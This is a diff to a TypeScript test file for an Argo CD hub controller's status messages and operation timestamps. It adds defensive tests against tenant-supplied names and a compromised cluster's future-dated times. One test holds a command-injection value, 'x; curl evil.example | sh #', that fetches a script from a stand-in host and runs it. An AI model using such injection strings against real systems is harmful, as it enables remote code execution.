@@ -13,6 +13,7 @@ import {
 } from '../__testUtils__/applications';
 import { reportedWork, workOf } from '../__testUtils__/works';
 import { applicationStatus } from './applicationStatus';
+import { statusMessage } from './statusCondition';
 
 const CLUSTER: ClusterState = {
   name: 'cluster1',
@@ -220,6 +221,67 @@ describe('the status of a hub Application', () => {
     expect(
       applicationStatus(application(), undefined, CLUSTER).patch,
     ).toBeUndefined();
+  });
+
+  it('names no namespace that an agent or a tenant made up, in lines that are run', () => {
+    const work = report();
+    const [payload, ...rest] = work.spec.workload!.manifests!;
+    const hostile = 'x; curl evil.example | sh #';
+    const app = application({
+      metadata: {
+        ownerReferences: [
+          {
+            apiVersion: 'argoproj.io/v1alpha1',
+            kind: 'ApplicationSet',
+            name: hostile,
+            uid: '1',
+          },
+        ],
+      },
+    });
+    const text = statusMessage({
+      application: app,
+      work: {
+        ...work,
+        spec: {
+          ...work.spec,
+          workload: {
+            manifests: [
+              {
+                ...payload,
+                metadata: { ...payload.metadata!, namespace: hostile },
+              },
+              ...rest,
+            ],
+          },
+        },
+      },
+      cluster: CLUSTER,
+      mark: { spec: '0123456789' },
+    });
+    expect(text.split('\n').slice(0, -1)).toEqual([
+      'Runs on the managed cluster cluster1 as openshift-gitops/cluster1-guestbook-app.',
+      expect.stringMatching(
+        /^kubectl get manifestwork -n cluster1 \S+ -o yaml$/,
+      ),
+    ]);
+  });
+
+  it('says where it runs, not which place of a victim a tenant’s annotation names', () => {
+    const refused = application({
+      metadata: {
+        annotations: {
+          'apps.open-cluster-management.io/ocm-managed-cluster': 'cluster1',
+          'apps.open-cluster-management.io/ocm-managed-cluster-app-namespace':
+            'victim',
+        },
+      },
+    });
+    const [condition] = written(refused, report()).status!.conditions!;
+    expect(condition.message).toContain(
+      'Runs on the managed cluster cluster1 as openshift-gitops/',
+    );
+    expect(condition.message).not.toContain('victim');
   });
 
   it('has the condition where the agent cannot apply the Application', () => {
@@ -533,6 +595,62 @@ describe('a progressive sync of Argo CD, which takes all but OutOfSync for synce
       });
     },
   );
+
+  describe('with a compromised cluster, whose operation starts in the year 2099', () => {
+    const now = Date.parse('2026-11-21T10:40:00Z');
+    const future = (phase: string) =>
+      report({
+        feedback: {
+          operationStateStartedAt: '2099-01-01T00:00:00Z',
+          operationStatePhase: phase,
+        },
+      });
+    const at = (app: ArgoApplication, work: ManifestWork, ms = now) => {
+      const { patch } = applicationStatus(app, work, CLUSTER, undefined, ms);
+      return merged(app, patch ?? {}) as ArgoApplication;
+    };
+    const startOf = ({ status }: ArgoApplication) =>
+      status?.operationState?.startedAt;
+
+    it('gets the time at which the hub knew', () => {
+      const running = at(outOfSync, future('Running'));
+      expect(startOf(running)).toBe('2026-11-21T10:40:00Z');
+    });
+
+    it('is not written again with each moment that passes', () => {
+      const running = at(outOfSync, future('Running'));
+      const later = now + 3_600_000;
+      expect(
+        applicationStatus(running, future('Running'), CLUSTER, undefined, later)
+          .patch,
+      ).toBeUndefined();
+    });
+
+    it('gets the right start again once the cluster reports one', () => {
+      const poisoned = written(outOfSync, future('Running'));
+      expect(startOf(poisoned)).toBe('2099-01-01T00:00:00Z');
+      const started = '2026-11-21T10:39:00Z';
+      const work = report({
+        feedback: {
+          operationStateStartedAt: started,
+          operationStatePhase: 'Running',
+        },
+      });
+      expect(startOf(at(poisoned, work))).toBe(started);
+    });
+
+    it('gets no mark of the year 2099 from its work', () => {
+      const work = report({
+        operation,
+        annotations: mark('2099-01-01T00:00:00Z'),
+        feedback: {
+          operationStateStartedAt: '2026-11-21T10:39:00Z',
+          operationStatePhase: 'Running',
+        },
+      });
+      expect(startOf(at(outOfSync, work))).toBe('2026-11-21T10:39:00Z');
+    });
+  });
 
   it('never gets an earlier start than before', () => {
     const early = written(
